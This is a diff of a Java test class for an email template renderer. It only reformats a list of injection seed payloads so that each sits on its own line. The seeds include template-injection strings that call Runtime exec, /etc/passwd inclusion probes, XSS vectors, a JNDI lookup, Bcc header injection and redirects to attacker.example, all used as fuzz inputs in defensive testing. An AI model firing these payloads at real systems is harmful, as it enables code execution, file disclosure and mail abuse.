@@ -45,24 +45,72 @@ class TemplateInjectionTest {
   static List<String> payloads() {
     List<String> seeds =
         List.of(
-            "{{ 7 | times: 7 }}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% if true %}49{% endif %}",
-            "{{ customer.class.name }}", "{{ ''.class.forName('java.lang.Runtime') }}",
-            "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{ 'a'.getClass().forName('x') }}",
-            "{% include '/etc/passwd' %}", "{% include_relative '../../x' %}", "{{ '/etc/passwd' | read_file }}",
-            "{% raw %}{{ x }}{% endraw %}", "{% assign x = 1 %}", "{%- for i in (1..99999999) -%}x{%- endfor -%}",
-            "}}{{ unsubscribe_url }}", "%}{% if true %}", "{{", "}}", "{%", "%}",
-            "<script>alert(1)</script>", "</p><script>alert(1)</script>", "\"><script>alert(1)</script>",
-            "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
-            "<svg/onload=alert(1)>", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)",
-            "data:text/html,<script>alert(1)</script>", "vbscript:x", "\u0001javascript:alert(1)",
-            "//attacker.example", "/\\attacker.example", "\\\\attacker.example", "https:attacker.example",
-            "<a href=https://attacker.example>click</a>", "<mj-raw><script>x</script></mj-raw>",
-            "<mj-include path=\"/etc/passwd\" />", "<!--#include file=\"/etc/passwd\"-->", "--><script>x</script><!--",
-            "<!--[if mso]><script>x</script><![endif]-->", "]]><script>x</script>", "&lt;script&gt;", "&#60;script&#62;",
-            "%3Cscript%3E", "\\u003cscript\\u003e", "\r\nBcc: x@attacker.example", "\nSubject: other", "\u2028x",
-            "lqd000000x", "lqd000001x", "${jndi:ldap://attacker.example/a}", "__proto__", "constructor",
-            "clientele_out: 0", "x | raw", "\u0000", "\ud83d\ude00", "&q=2#frag", "../../admin");
-    List<String> shapes = List.of("%s", "Ana %s", "%s Ana", " %s%s ", "{{ \"%s\" | raw }}", "<b>%s</b>");
+            "{{ 7 | times: 7 }}",
+            "{{7*7}}",
+            "${7*7}",
+            "#{7*7}",
+            "<%= 7*7 %>",
+            "{% if true %}49{% endif %}",
+            "{{ customer.class.name }}",
+            "{{ ''.class.forName('java.lang.Runtime') }}",
+            "${T(java.lang.Runtime).getRuntime().exec('id')}",
+            "{{ 'a'.getClass().forName('x') }}",
+            "{% include '/etc/passwd' %}",
+            "{% include_relative '../../x' %}",
+            "{{ '/etc/passwd' | read_file }}",
+            "{% raw %}{{ x }}{% endraw %}",
+            "{% assign x = 1 %}",
+            "{%- for i in (1..99999999) -%}x{%- endfor -%}",
+            "}}{{ unsubscribe_url }}",
+            "%}{% if true %}",
+            "{{",
+            "}}",
+            "{%",
+            "%}",
+            "<script>alert(1)</script>",
+            "</p><script>alert(1)</script>",
+            "\"><script>alert(1)</script>",
+            "'><img src=x onerror=alert(1)>",
+            "\" onmouseover=\"alert(1)",
+            "' onfocus='alert(1)' autofocus='",
+            "<svg/onload=alert(1)>",
+            "javascript:alert(1)",
+            "JaVaScRiPt:alert(1)",
+            "java\nscript:alert(1)",
+            "data:text/html,<script>alert(1)</script>",
+            "vbscript:x",
+            "\u0001javascript:alert(1)",
+            "//attacker.example",
+            "/\\attacker.example",
+            "\\\\attacker.example",
+            "https:attacker.example",
+            "<a href=https://attacker.example>click</a>",
+            "<mj-raw><script>x</script></mj-raw>",
+            "<mj-include path=\"/etc/passwd\" />",
+            "<!--#include file=\"/etc/passwd\"-->",
+            "--><script>x</script><!--",
+            "<!--[if mso]><script>x</script><![endif]-->",
+            "]]><script>x</script>",
+            "&lt;script&gt;",
+            "&#60;script&#62;",
+            "%3Cscript%3E",
+            "\\u003cscript\\u003e",
+            "\r\nBcc: x@attacker.example",
+            "\nSubject: other",
+            "\u2028x",
+            "lqd000000x",
+            "lqd000001x",
+            "${jndi:ldap://attacker.example/a}",
+            "__proto__",
+            "constructor",
+            "clientele_out: 0",
+            "x | raw",
+            "\u0000",
+            "\ud83d\ude00",
+            "&q=2#frag",
+            "../../admin");
+    List<String> shapes =
+        List.of("%s", "Ana %s", "%s Ana", " %s%s ", "{{ \"%s\" | raw }}", "<b>%s</b>");
     List<String> all = new ArrayList<>();
     for (String shape : shapes) {
       for (String seed : seeds) {
@@ -120,7 +168,8 @@ class TemplateInjectionTest {
   }
 
   private static Rendered rendered(String template, String name) {
-    Properties traits = Properties.none().with("name", name).with("currency", CurrencyUnit.EUR.getCode());
+    Properties traits =
+        Properties.none().with("name", name).with("currency", CurrencyUnit.EUR.getCode());
     return TEMPLATES.render(
         TestShop.request(
             template, ChannelName.EMAIL, TestShop.profile(traits, "P"), Properties.none()));
